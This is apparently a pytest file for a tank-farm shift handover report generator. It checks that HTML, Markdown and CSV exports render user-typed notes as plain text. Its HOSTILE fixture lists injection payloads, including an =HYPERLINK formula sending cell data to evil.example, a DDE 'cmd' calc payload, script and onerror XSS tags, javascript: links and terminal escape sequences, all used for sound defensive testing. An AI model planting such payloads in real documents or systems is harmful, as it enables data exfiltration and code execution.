"""Three forms of one report: what was typed is text in each of them, and nothing else."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pytest
from handover_plant import HOUR_US, NOON_US, Plant
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tankcalc.handover.build import build
from tankcalc.handover.document import Document, Item, Section, Trend
from tankcalc.handover.html import as_html
from tankcalc.handover.plain import as_markdown, inert
from tankcalc.handover.table import as_csv
from tankcalc.handover.trend import svg
from tankcalc.handover.words import document_of
from tankcalc.report import CAUTION
from tankcalc.shiftlog import open_store, zone_named
from tankcalc.shiftlog.shifts import shift_named
from tankcalc.text import clean

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\x1b[31mred\x1b[0m\x07 \x9b31m and \u202etxt.exe",
    "[bold red]all clear[/bold red] [@click=app.quit]x[/]",
    "a | b | c `code` **b** _i_ ~~s~~ # h",
    "[link](http://evil.example) ![i](http://evil.example/x.png) http://evil.example www.evil.ex",
    "# heading",
    "- list",
    "1. one",
    "> quote",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "</style></table><h1>x</h1>",
    "&lt;b&gt; &amp; \\| \\",
    "-----",
    "```",
    "javascript:alert(1) <http://evil.example> <mailto:x@evil.example>",
)


@pytest.fixture
def document(tmp_path: Path) -> Document:
    """A report in which everything that people type is hostile."""
    plant = Plant(tmp_path)
    first = plant.level(
        "V-1", NOON_US - 3 * HOUR_US, 10.0, movement="receiving", who=HOSTILE[0][:80]
    )
    plant.level("V-1", NOON_US - 2 * HOUR_US, 10.5, movement="receiving", note=HOSTILE[1])
    for k, text in enumerate(HOSTILE):
        plant.note(NOON_US - HOUR_US + k, text, who=text[:80])
        plant.fault("V-1", NOON_US - HOUR_US + k, f"{k} {text}", note=text)
    plant.fault("V-2", NOON_US - HOUR_US, HOSTILE[0], note=HOSTILE[4])
    plant.amend(first, {"level": "10 m"}, NOON_US - HOUR_US, HOSTILE[5])
    plant.level("V-2", NOON_US - HOUR_US, 14.2)
    plant.answer("V-2", "above_high_high", NOON_US, until_us=NOON_US + HOUR_US, reason=HOSTILE[1])
    plant.sign(NOON_US, HOSTILE[1])
    plant.tank_file("V-2", f"name = 3\n['<script>']\n'{HOSTILE[9]}' = 1\n")
    site = plant.site
    shift = shift_named("2026-12-01 Day", zone_named(site.time_zone), site.shifts)
    with closing(open_store(plant.log)) as store:
        return document_of(build(store, site, shift, NOON_US + 1))


class Tags(HTMLParser):
    """Collects the elements and the text of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read(page: str) -> Tags:
    tags = Tags()
    tags.feed(page)
    tags.close()
    return tags


def test_the_page_holds_only_our_own_elements_and_every_note_as_text(document: Document) -> None:
    page = as_html(document)
    found = read(page)
    assert found.tags <= {
        *("html", "head", "meta", "title", "style", "body", "main", "footer", "section"),
        *("article", "h1", "h2", "h3", "p", "span", "dl", "div", "dt", "dd", "ul", "li"),
        *("table", "thead", "tbody", "tr", "th", "td"),
        *("svg", "rect", "line", "text", "polyline", "circle", "path"),
    }
    assert not [name for name in found.attributes if name.startswith("on")]
    assert not {"href", "src", "xlink:href", "action", "srcset", "style"} & found.attributes
    text = "".join(found.text)
    for note in HOSTILE:
        assert clean(note, 4000) in text


def test_the_page_needs_nothing_else_and_is_light(document: Document) -> None:
    page = as_html(document)
    style = re.search(r"<style>(.*?)</style>", page, re.S)
    assert style is not None
    assert not re.search(r"url\(|@import|@font-face|expression", style[1])
    assert "@media print" in style[1]
    assert "background:#fff" in style[1]
    colours = {c.lower() for c in re.findall(r"#[0-9a-fA-F]{3,6}\b", style[1])}
    # Black, white and greys: nothing is told by colour.
    greys = {c for c in colours if len(set(re.findall("..", c[1:]) if len(c) > 4 else c[1:])) == 1}
    assert colours == greys
    assert "default-src &#x27;none&#x27;" in page


def test_the_trends_are_sound_and_draw_the_limits(document: Document) -> None:
    drawings = re.findall(r"<svg.*?</svg>", as_html(document), re.S)
    assert len(drawings) == 2
    level = ET.fromstring(drawings[0])
    words = [element.text for element in level.iter("text")]
    assert any("maximum working 13.60" in (word or "") for word in words)
    assert len(list(level.iter("circle"))) == 2


def test_markdown_makes_no_element_of_what_was_typed(document: Document) -> None:
    text = as_markdown(document)
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    tokens = parser.parse(text)
    inline = [child for token in tokens for child in token.children or ()]
    kinds = {token.type for token in (*tokens, *inline)}
    assert {kind.removesuffix("_open").removesuffix("_close") for kind in kinds} <= {
        *("text", "text_special", "strong", "softbreak", "hardbreak"),
        *("heading", "paragraph", "inline", "bullet_list", "list_item", "hr"),
        *("table", "thead", "tbody", "tr", "th", "td"),
    }
    headings = [tokens[k + 1].content for k, t in enumerate(tokens) if t.type == "heading_open"]
    assert "heading" not in headings
    shown = "".join(child.content for child in inline)
    for note in HOSTILE:
        assert clean(note, 4000) in shown
    # Every row has the cells of its heading: no bar was taken for an edge.
    for row in re.findall(r"(?m)^\| .*$", text):
        assert len(re.findall(r"(?<!\\)\|", row)) in (5, 6, 7, 9)


@given(st.text(max_size=60))
def test_any_text_reads_the_same_after_markdown(text: str) -> None:
    shown = clean(text, 4000)
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(inert(shown))
    back = "".join(c.content for token in tokens for c in token.children or ())
    assert back == shown
    assert {token.type for token in tokens} <= {"paragraph_open", "inline", "paragraph_close"}
    assert {c.type for t in tokens for c in t.children or ()} <= {"text", "text_special"}


def test_an_address_is_no_link_even_where_bare_addresses_are(document: Document) -> None:
    text = as_markdown(document)
    assert "http://" not in text
    assert "www." not in text
    assert not re.search(r"\w@\w", text)


def test_csv_holds_no_formula_and_its_numbers_are_numbers(document: Document) -> None:
    heading, *rows = csv.reader(io.StringIO(as_csv(document)))
    number = heading.index("number")
    assert all(len(row) == len(heading) for row in rows)
    for row in rows:
        for place, cell in enumerate(row):
            if place != number:
                assert not cell.lstrip().startswith(tuple("=+-@|%\t\r\n"))
    figures = {(row[1], row[2]): row for row in rows if row[number]}
    level = figures["V-1", "Level"]
    assert float(level[number]) == pytest.approx(10.5, abs=0.01)
    assert level[heading.index("unit")] == "m"
    texts = [row[heading.index("text")] for row in rows]
    for note in HOSTILE:
        assert any(clean(note, 4000) in text for text in texts)


@pytest.mark.parametrize("form", [as_html, as_markdown, as_csv])
def test_no_form_holds_anything_that_a_terminal_acts_on(
    document: Document, form: Callable[[Document], str]
) -> None:
    text = form(document)
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)


@pytest.mark.parametrize("form", [as_html, as_markdown, as_csv])
def test_every_form_carries_the_cautions_and_what_changed_before_the_tanks(
    document: Document, form: Callable[[Document], str]
) -> None:
    text = form(document)
    plain = text.replace("\\", "")
    assert CAUTION in plain
    assert "Head of the log: " in plain
    assert "tankcalc 0.1.0" in plain
    places = [plain.index(word) for word in ("What changed this shift", "Product", "Open alerts")]
    assert places == sorted(places)


def test_room_to_sign_is_printed_where_nobody_has_acknowledged(document: Document) -> None:
    assert "Signature" in as_html(document)
    assert "Signature" in as_markdown(document)
    taken = Section("Taken over by", "Nobody.", (Item("C. Gull", "acknowledged"),))
    after = replace(document, acknowledged=taken)
    assert "Signature" not in as_html(after)
    assert "Signature" not in as_markdown(after)
    assert "C. Gull" in as_html(after)


def trend(*values: float | None, lines: tuple[tuple[str, float], ...] = ()) -> Trend:
    points = tuple((k * HOUR_US, value) for k, value in enumerate(values))
    span = (0, max(len(values) - 1, 1) * HOUR_US)
    return Trend("Level", "m", points, lines, span, 0, ((0, "06:00"),), 0.1, 2)


finite = st.floats(-1e6, 1e9)


@given(
    st.lists(st.one_of(st.none(), finite), min_size=1, max_size=30).filter(
        lambda v: any(x is not None for x in v)
    ),
    st.lists(st.tuples(st.sampled_from(["high-high", "low-low"]), finite), max_size=6),
)
def test_every_trend_stays_on_its_paper(
    values: list[float | None], lines: list[tuple[str, float]]
) -> None:
    drawing = ET.fromstring(svg(trend(*values, lines=tuple(lines))))
    _, _, width, height = map(float, drawing.attrib["viewBox"].split())
    known = [value for value in values if value is not None]
    assert len(list(drawing.iter("circle"))) == len(known)
    for dot in drawing.iter("circle"):
        assert 0.0 <= float(dot.attrib["cx"]) <= width
        assert 0.0 <= float(dot.attrib["cy"]) <= height
    for text in drawing.iter("text"):
        assert 0.0 <= float(text.attrib["y"]) <= height


def test_a_refused_reading_breaks_the_line_and_is_crossed(document: Document) -> None:
    drawing = ET.fromstring(svg(trend(1.0, 2.0, None, 3.0, 4.0)))
    lines = [line.attrib["points"] for line in drawing.iter("polyline")]
    assert [len(points.split()) for points in lines] == [2, 2]
    assert len([p for p in drawing.iter("path") if p.attrib["class"] == "none"]) == 1


def test_the_names_of_limits_close_together_do_not_cover_each_other() -> None:
    close = tuple((name, 14.0 + 0.01 * k) for k, name in enumerate("abcd"))
    drawing = ET.fromstring(svg(trend(10.0, 14.0, lines=close)))
    named = [t for t in drawing.iter("text") if t.text and re.fullmatch(r"[a-d] 14\.0\d", t.text)]
    places = sorted(float(text.attrib["y"]) for text in named)
    assert len(places) == 4
    assert all(b - a >= 9.9 for a, b in pairwise(places))
